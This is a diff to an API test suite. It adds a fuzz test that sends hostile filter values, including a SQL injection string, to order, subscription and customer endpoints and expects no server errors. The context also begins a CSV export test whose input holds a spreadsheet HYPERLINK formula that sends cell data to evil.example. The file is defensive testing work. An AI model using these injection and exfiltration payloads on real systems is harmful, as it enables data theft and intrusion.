@@ -325,6 +325,29 @@ describe.each(testDatabases())(
       expect(fine.response.statusCode).toBe(200);
     });
 
+    it("answers hostile values in every filter with the key with a 4xx or a page, never a 5xx", async () => {
+      const values = ["\u0000", "' OR 1=1 --", "x".repeat(5_000), "😀", "%ZZ", "\uD800", "-1"];
+      const fields = ["email", "phone", "cursor", "status", "created_from", "created_to", "limit"];
+      for (const [network, path] of ["orders", "subscriptions", "customers"].entries()) {
+        for (const field of fields) {
+          for (const value of values) {
+            const response = await context.app.inject({
+              method: "GET",
+              url: `/api/publisher/${path}`,
+              query: { [field]: value },
+              headers: { authorization: `Bearer ${keys.demo}` },
+              // A network of its own per list, so each is read in full within its limit and
+              // these requests do not spend the other tests' limit.
+              remoteAddress: `203.0.113.${network + 1}`,
+            });
+            expect(response.statusCode, `${path} ${field}=${value.slice(0, 20)}`).toBeLessThan(500);
+            expect(response.statusCode).not.toBe(429);
+            if (response.statusCode >= 400) expect(response.json().message).toMatch(/\w/);
+          }
+        }
+      }
+    });
+
     it("exports 250 orders as one CSV that parses back to the same values, formulas defused", async () => {
       const hostile = [
         '=HYPERLINK("http://evil.example/?"&A1,"Click")@example.com',
